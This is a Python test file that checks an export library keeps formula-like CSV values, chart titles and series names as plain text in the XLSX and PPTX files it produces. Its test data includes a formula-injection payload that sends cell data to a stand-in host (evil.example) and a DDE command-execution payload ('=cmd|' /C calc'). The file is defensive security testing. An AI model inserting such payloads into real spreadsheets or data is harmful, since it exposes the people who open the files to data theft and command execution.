"""Formula injection: data text that looks like a formula stays text in every workbook we write.

A CSV value ``=HYPERLINK("http://evil.example/?x="&B2,"Invoice")`` or
``=cmd|' /C calc'!A0`` must reach the sheet as a string cell (inline or
shared string), never as ``<f>``; only a cell with the template's
``formula`` attribute holds a formula.  The same holds for chart titles,
category and series names, in the XLSX and in the workbook a PPTX chart
embeds.  LibreOffice (slow test) shows the text, it does not compute it.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

import o3local
from o3local.export import export

from ..export.kit import ASSETS, build_font, tool, v2_display_list

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Invoice")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, DDE, "=1+41", "@SUM(1)", "+1+2")


def sheet_cells(book: bytes, member: str = "xl/worksheets/sheet1.xml") -> dict[str, tuple[str, str]]:
    """{cell ref: (kind, content)}: kind 'f' for a formula, else the cell type and its text."""
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        xml = z.read(member).decode("utf-8")
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            shared = [re.sub(r"<[^>]+>", "", si) for si in
                      re.findall(r"<si>(.*?)</si>", z.read("xl/sharedStrings.xml").decode())]
    cells = {}
    for ref, attrs, body in re.findall(r'<c r="([A-Z]+\d+)"([^>]*?)(?:/>|>(.*?)</c>)', xml):
        formula = re.search(r"<f>(.*?)</f>", body or "")
        if formula:
            cells[ref] = ("f", formula.group(1))
            continue
        kind = (re.search(r't="(\w+)"', attrs) or [None, "n"])[1]
        text = re.sub(r"<[^>]+>", "", body or "")
        if kind == "s":
            text = shared[int(text)]
        cells[ref] = (kind, text.replace("&amp;", "&").replace("&quot;", '"'))
    return cells


def hostile_csv(tmp_path):
    path = tmp_path / "sales.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow(["Region", "Product", "Units", "Price"])
        out.writerow([HYPERLINK, DDE, "3", "4"])
        out.writerow(["@SUM(1)", "+1+2", "1", "5"])
    return path


def test_csv_values_that_look_like_formulas_stay_text_in_the_sheet(tmp_path):
    result = o3local.render("sales-sheet", data=str(hostile_csv(tmp_path)), fmt="xlsx")
    cells = sheet_cells(result.files[0])
    # the only formulas are the template's revenue column (formula="=C2*D2"...)
    assert {ref: v for ref, v in cells.items() if v[0] == "f"} == {
        "E2": ("f", "C2*D2"), "E3": ("f", "C3*D3")}
    for ref, text in (("A2", HYPERLINK), ("B2", DDE), ("A3", "@SUM(1)"), ("B3", "+1+2")):
        assert cells[ref] in (("inlineStr", text), ("s", text)), ref


def hostile_chart_list(kind="spreadsheet"):
    dl = v2_display_list(kind)
    items = dl["pages"][0]["items"]
    chart = next(i for i in items if i.get("role") == "chart")
    chart["meta"]["title"] = "=1+41"
    chart["meta"]["categories"] = [HYPERLINK, "http://evil.example/"]
    chart["meta"]["series"][0]["name"] = DDE
    table = next(i for i in items if i.get("role") == "table")
    table["meta"]["rows"][1]["cells"][0]["text"] = "=2+3"
    return dl


def test_xlsx_chart_titles_series_and_categories_are_text():
    book = export(hostile_chart_list(), "xlsx", fonts=[build_font()], assets=ASSETS)[0]
    cells = sheet_cells(book)
    formulas = [v[1] for v in cells.values() if v[0] == "f"]
    assert formulas == ["B2*2"]  # the table's own formula cell, nothing from the data
    texts = {v[1] for v in cells.values() if v[0] in ("inlineStr", "s", "str")}
    assert {"=1+41", HYPERLINK, DDE, "=2+3"} <= texts


def test_pptx_chart_workbook_holds_names_as_text_not_formulas_or_links():
    deck = export(hostile_chart_list("presentation"), "pptx", fonts=[build_font()],
                  assets=ASSETS)[0]
    with zipfile.ZipFile(io.BytesIO(deck)) as z:
        inner = [n for n in z.namelist() if n.endswith(".xlsx")]
        assert inner
        book = z.read(inner[0])
    cells = sheet_cells(book)
    assert [v for v in cells.values() if v[0] == "f"] == []
    texts = {v[1] for v in cells.values() if v[0] in ("inlineStr", "s", "str")}
    assert {HYPERLINK, DDE, "http://evil.example/"} <= texts
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
        assert b"<hyperlink" not in sheet and not any("rels/sheet" in n for n in z.namelist())


@pytest.mark.slow
def test_libreoffice_shows_the_text_and_computes_only_the_template_formula(tmp_path):
    soffice = tool("soffice")
    import subprocess

    result = o3local.render("sales-sheet", data=str(hostile_csv(tmp_path)), fmt="xlsx",
                            output=tmp_path / "s.xlsx")
    assert result.outputs
    profile = (tmp_path / "profile").as_uri()
    subprocess.run([soffice, f"-env:UserInstallation={profile}", "--headless", "--norestore",
                    "--convert-to", "csv", "--outdir", str(tmp_path / "csv"),
                    str(tmp_path / "s.xlsx")], check=True, capture_output=True, timeout=300,
                   stdin=subprocess.DEVNULL, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    rows = list(csv.reader((tmp_path / "csv" / "s.csv").read_text("utf-8").splitlines()))
    assert rows[1][:2] == [HYPERLINK, DDE]  # shown as typed, not "Invoice" or Err:509
    assert rows[2][:2] == ["@SUM(1)", "+1+2"]
    assert rows[1][4] == "12" and rows[2][4] == "5"  # the template's =C2*D2 is computed
